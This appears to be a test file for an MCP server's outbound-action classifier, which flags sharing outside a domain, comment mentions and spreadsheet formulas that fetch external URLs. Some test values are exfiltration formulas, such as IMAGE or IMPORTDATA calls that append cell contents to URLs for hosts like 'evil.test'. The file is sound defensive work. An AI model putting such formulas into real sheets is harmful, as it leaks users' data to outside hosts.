import { describe, expect, it } from 'vitest';
import { mcpSettingsSchema } from '../src/settings.ts';
import { fetchesInFormula } from '../src/tools/guards/fetch-formulas.ts';
import { OUTBOUND_TOOLS, outboundActions } from '../src/tools/guards/outbound-actions.ts';
import { ceilingRefusal, NO_CEILING } from '../src/tools/guards/outbound-ceiling.ts';
import { OUTBOUND_FUNCTIONS } from '../src/tools/kit/formula-text.ts';
import { registeredTools } from '../src/tools/registry.ts';

// The outbound classifier (issue 37): each outbound action a call would take, for a Workspace
// person (alice@example.com, hd example.com) and a consumer one (carol@gmail.com).

const alice = { email: 'alice@example.com', hostedDomain: 'example.com' };
const carol = { email: 'carol@gmail.com' };
const kinds = (actions: ReturnType<typeof outboundActions>) =>
  actions.map((action) => `${action.kind} ${action.to}`);

describe('sharing', () => {
  const share = (args: Record<string, unknown>) => ({
    name: 'share_file',
    args: { fileId: 'f', type: 'user', ...args },
  });

  it('is outbound to an address outside the domain, not inside it', () => {
    expect(kinds(outboundActions(share({ emailAddress: 'bob@example.com', role: 'writer' }), alice))).toEqual(
      [],
    );
    const outside = outboundActions(share({ emailAddress: 'Dave@Gmail.com', role: 'writer' }), alice);
    expect(outside).toEqual([
      {
        kind: 'share',
        to: 'dave@gmail.com',
        domain: 'gmail.com',
        words: 'dave@gmail.com gets writer access',
      },
    ]);
  });

  it('for a consumer person, is outbound to every other address, in the same provider too', () => {
    expect(kinds(outboundActions(share({ emailAddress: 'dave@gmail.com', role: 'reader' }), carol))).toEqual([
      'share dave@gmail.com',
    ]);
    expect(kinds(outboundActions(share({ emailAddress: 'bob@example.com', role: 'reader' }), carol))).toEqual(
      ['share bob@example.com'],
    );
    expect(kinds(outboundActions(share({ emailAddress: 'carol@gmail.com', role: 'reader' }), carol))).toEqual(
      [],
    );
  });

  it('names a group, a domain and link sharing', () => {
    expect(
      outboundActions(
        share({ type: 'group', emailAddress: 'team@example.net', role: 'commenter' }),
        alice,
      )[0]!.words,
    ).toBe('the group team@example.net gets commenter access');
    expect(outboundActions(share({ type: 'domain', domain: 'Example.NET', role: 'reader' }), alice)).toEqual([
      {
        kind: 'share',
        to: 'example.net',
        domain: 'example.net',
        words: 'everyone at example.net gets reader access',
      },
    ]);
    expect(
      kinds(outboundActions(share({ type: 'domain', domain: 'example.com', role: 'reader' }), alice)),
    ).toEqual([]);
    // A consumer person has no domain: a domain is always someone else's.
    expect(
      kinds(outboundActions(share({ type: 'domain', domain: 'gmail.com', role: 'reader' }), carol)),
    ).toEqual(['share gmail.com']);
    for (const person of [alice, carol]) {
      expect(outboundActions(share({ type: 'anyone', role: 'writer' }), person)).toEqual([
        { kind: 'link', to: 'anyone with the link', words: 'anyone with the link may open it as writer' },
      ]);
    }
  });

  it("names a sharing e-mail's message to someone outside, unless no e-mail is sent", () => {
    const message = { emailAddress: 'dave@gmail.com', role: 'reader', emailMessage: 'Totals: 4,120' };
    expect(outboundActions(share(message), alice)[1]).toEqual({
      kind: 'message',
      to: 'dave@gmail.com',
      domain: 'gmail.com',
      words: 'dave@gmail.com is e-mailed your message (13 characters)',
    });
    expect(kinds(outboundActions(share({ ...message, emailAddress: 'bob@example.com' }), alice))).toEqual([]);
  });

  it('reads every recipient as outside when the person is not known', () => {
    expect(
      kinds(outboundActions(share({ emailAddress: 'bob@example.com', role: 'reader' }), undefined)),
    ).toEqual(['share bob@example.com']);
  });

  it('names a raised role of a grantee outside once the grantee is read, and nothing for a lowered one', () => {
    const update = { name: 'update_permission', args: { fileId: 'f', permissionId: 'p', role: 'writer' } };
    expect(outboundActions(update, alice)).toEqual([]);
    const dave = { type: 'user', role: 'reader', emailAddress: 'dave@gmail.com' };
    expect(kinds(outboundActions(update, alice, { permission: dave }))).toEqual(['share dave@gmail.com']);
    expect(outboundActions(update, alice, { permission: { ...dave, role: 'writer' } })).toEqual([]);
    expect(
      outboundActions({ ...update, args: { ...update.args, role: 'reader' } }, alice, {
        permission: { ...dave, role: 'writer' },
      }),
    ).toEqual([]);
    expect(kinds(outboundActions(update, alice, { permission: { type: 'anyone', role: 'reader' } }))).toEqual(
      ['link anyone with the link'],
    );
    expect(
      outboundActions(update, alice, { permission: { ...dave, emailAddress: 'bob@example.com' } }),
    ).toEqual([]);
  });
});

describe('comments', () => {
  it('names the people outside a comment or reply mentions, with + or @', () => {
    const content = 'Please look, +dave@gmail.com and @bob@example.com (or @erin@example.net).';
    for (const name of ['add_comment', 'reply_to_comment', 'resolve_comment']) {
      expect(kinds(outboundActions({ name, args: { fileId: 'f', content } }, alice)), name).toEqual([
        'notify dave@gmail.com',
        'notify erin@example.net',
      ]);
    }
    expect(
      kinds(outboundActions({ name: 'add_comment', args: { content: '+bob@example.com' } }, carol)),
    ).toEqual(['notify bob@example.com']);
  });

  it('names nothing for an address that is not a mention, or no content', () => {
    expect(outboundActions({ name: 'add_comment', args: { content: 'mail dave@gmail.com' } }, alice)).toEqual(
      [],
    );
    expect(outboundActions({ name: 'resolve_comment', args: { commentId: 'c' } }, alice)).toEqual([]);
  });
});

describe('formulas that fetch', () => {
  const exfiltrating = '=IMAGE("https://example.net/?"&A1)';

  it('finds each function of the documented list, called, in any case, and the hosts written in it', () => {
    for (const name of OUTBOUND_FUNCTIONS) {
      expect(fetchesInFormula(`=${name.toLowerCase()} ("x")`)?.functions, name).toEqual([name]);
    }
    expect(fetchesInFormula('=IFERROR(IMPORTDATA("http://Evil.Test:8080/a?"&B2), 0)')).toEqual({
      functions: ['IMPORTDATA'],
      hosts: ['evil.test'],
    });
    expect(fetchesInFormula('=SUM(A1:A3)')).toBeUndefined();
    expect(fetchesInFormula('=MYIMAGE(A1)')).toBeUndefined();
    expect(fetchesInFormula('IMAGE("https://example.net")')).toBeUndefined();
    // A name inside a string literal is text.
    expect(fetchesInFormula('=LEN("IMAGE(x)")&A1')).toBeUndefined();
  });

  it('in the values of write_range, write_ranges, append_rows and create_spreadsheet, not when RAW', () => {
    const values = [['a', exfiltrating]];
    for (const [name, args] of [
      ['write_range', { range: 'A1', values }],
      [
        'write_ranges',
        {
          data: [
            { range: 'A1', values: [['x']] },
            { range: 'B1', values },
          ],
        },
      ],
      ['append_rows', { range: 'A1', values }],
      ['create_spreadsheet', { title: 't', values }],
    ] as const) {
      expect(outboundActions({ name, args }, alice), name).toEqual([
        {
          kind: 'fetch',
          to: 'example.net',
          words:
            'IMAGE makes Google fetch from example.net, sending what the URL holds (cells included) each time the sheet is computed',
        },
      ]);
      expect(outboundActions({ name, args: { ...args, valueInputOption: 'RAW' } }, alice), name).toEqual([]);
    }
  });

  it('in batch_update cells, rules and a findReplace replacement', () => {
    const cells = {
      requests: [
        {
          updateCells: {
            rows: [{ values: [{ userEnteredValue: { formulaValue: '=IMPORTXML(A1, "//a")' } }] }],
          },
        },
      ],
    };
    expect(kinds(outboundActions({ name: 'batch_update', args: cells }, alice))).toEqual([
      'fetch a URL the formula builds',
    ]);
    const replace = {
      requests: [{ findReplace: { find: 'SUM', replacement: 'IMPORTRANGE', allSheets: true } }],
    };
    expect(kinds(outboundActions({ name: 'batch_update', args: replace }, alice))).toEqual([
      'fetch a URL the formula builds',
    ]);
    expect(
      outboundActions({ name: 'batch_update', args: { requests: [{ repeatCell: { x: '=A1' } }] } }, alice),
    ).toEqual([]);
  });

  it('in find_replace and rule conditions; evaluate_formulas refuses them itself', () => {
    expect(
      kinds(outboundActions({ name: 'find_replace', args: { find: 'SUM', replacement: 'image' } }, alice)),
    ).toHaveLength(1);
    expect(
      kinds(outboundActions({ name: 'find_replace', args: { find: 'a', replacement: 'b' } }, alice)),
    ).toEqual([]);
    expect(
      outboundActions(
        { name: 'evaluate_formulas', args: { formulas: ['=IMPORTFEED("https://f.example/x")'] } },
        alice,
      ),
    ).toEqual([]);
    for (const name of ['set_data_validation', 'add_conditional_format', 'update_conditional_format']) {
      // The condition's text starts with its type: the formula after it is found all the same.
      const args = { range: 'A1', condition: 'CUSTOM_FORMULA =ISERROR(IMAGE("https://h.example/"&A1))' };
      expect(kinds(outboundActions({ name, args }, alice)), name).toEqual(['fetch h.example']);
      const value = { range: 'A1', condition: 'NUMBER_GREATER =IMPORTDATA(B1)' };
      expect(kinds(outboundActions({ name, args: value }, alice)), name).toEqual([
        'fetch a URL the formula builds',
      ]);
      expect(
        outboundActions({ name, args: { range: 'A1', condition: 'TEXT_CONTAINS IMAGE(' } }, alice),
      ).toEqual([]);
    }
  });

  it('not in a note, a tab name or any tool that writes no formula', () => {
    expect(outboundActions({ name: 'set_notes', args: { notes: [[exfiltrating]] } }, alice)).toEqual([]);
    expect(outboundActions({ name: 'rename_sheet', args: { title: exfiltrating } }, alice)).toEqual([]);
  });
});

describe('the tools judged outbound', () => {
  it('are registered tools, and are exactly those whose openWorldHint is true', () => {
    const tools = registeredTools();
    const names = new Set(tools.map((tool) => tool.name));
    for (const name of OUTBOUND_TOOLS) expect(names.has(name), name).toBe(true);
    for (const tool of tools)
      expect(tool.annotations.openWorldHint, tool.name).toBe(OUTBOUND_TOOLS.has(tool.name));
  });
});

describe("the operator's settings", () => {
  const domains = mcpSettingsSchema.shape.OUTBOUND_SHARING_DOMAINS;

  it('read OUTBOUND_SHARING_DOMAINS as any (unset or empty), none, or exact domains; refuse anything else', () => {
    expect(domains.parse(undefined)).toBeUndefined();
    expect(domains.parse('  ')).toBeUndefined();
    expect(domains.parse('None')).toEqual([]);
    expect(domains.parse(' Partner.example, b.example ')).toEqual(['partner.example', 'b.example']);
    for (const bad of ['partner', 'a.example,,b.example', '*.example.com', 'https://a.example']) {
      expect(domains.safeParse(bad).success, bad).toBe(false);
    }
    const defaults = mcpSettingsSchema
      .pick({ OUTBOUND_LINK_SHARING: true, OUTBOUND_FETCH_FORMULAS: true })
      .parse({});
    expect(defaults).toEqual({ OUTBOUND_LINK_SHARING: 'allow', OUTBOUND_FETCH_FORMULAS: 'allow' });
  });

  it('allow every action when unset, and refuse by the setting that forbids it', () => {
    const share = outboundActions(
      { name: 'share_file', args: { type: 'user', emailAddress: 'x@b.example', role: 'reader' } },
      alice,
    );
    expect(ceilingRefusal(NO_CEILING, share)).toBeUndefined();
    expect(ceilingRefusal({ ...NO_CEILING, sharingDomains: ['b.example'] }, share)).toBeUndefined();
    expect(ceilingRefusal({ ...NO_CEILING, sharingDomains: [] }, share)).toBe(
      'Nothing was sent to Google: x@b.example gets reader access, which reaches outside what this server allows (its operator set OUTBOUND_SHARING_DOMAINS: your own Workspace domain only).',
    );
    // Link sharing is its own setting's: a domain list does not forbid it.
    const link = outboundActions({ name: 'share_file', args: { type: 'anyone', role: 'reader' } }, alice);
    expect(ceilingRefusal({ ...NO_CEILING, sharingDomains: [] }, link)).toBeUndefined();
    expect(ceilingRefusal({ ...NO_CEILING, linkSharing: 'deny' }, link)).toContain(
      'OUTBOUND_LINK_SHARING=deny',
    );
  });
});
